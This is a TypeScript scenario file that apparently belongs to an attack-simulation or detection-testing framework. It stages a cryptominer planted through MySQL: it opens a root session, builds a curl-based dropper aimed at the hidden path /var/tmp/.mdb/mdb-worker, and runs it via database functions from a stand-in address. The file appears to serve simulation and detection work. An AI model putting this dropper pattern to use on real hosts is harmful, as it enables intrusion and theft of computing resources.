// As Debian installs it: no log of statements. The control group and the account of the miner are those of the database.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { functionRuns, mysql, mysqlFrom, openRoot } from '../../mysql.ts'
import { ordinary } from '../../past.ts'
import type { Stage } from '../../stage.ts'

export function dress(dress: Dress): void {
  dress.logins(ordinary)
  mysql(dress)
}

export async function plant(stage: Stage): Promise<void> {
  await openRoot(stage, 'root')
  const line = dropper(stage, { path: '/var/tmp/.mdb/mdb-worker', fetch: 'curl', cron: false })
  stage.mark('occurrence')
  await mysqlFrom(stage, '192.0.2.141', 'root', await functionRuns(stage, line))
}
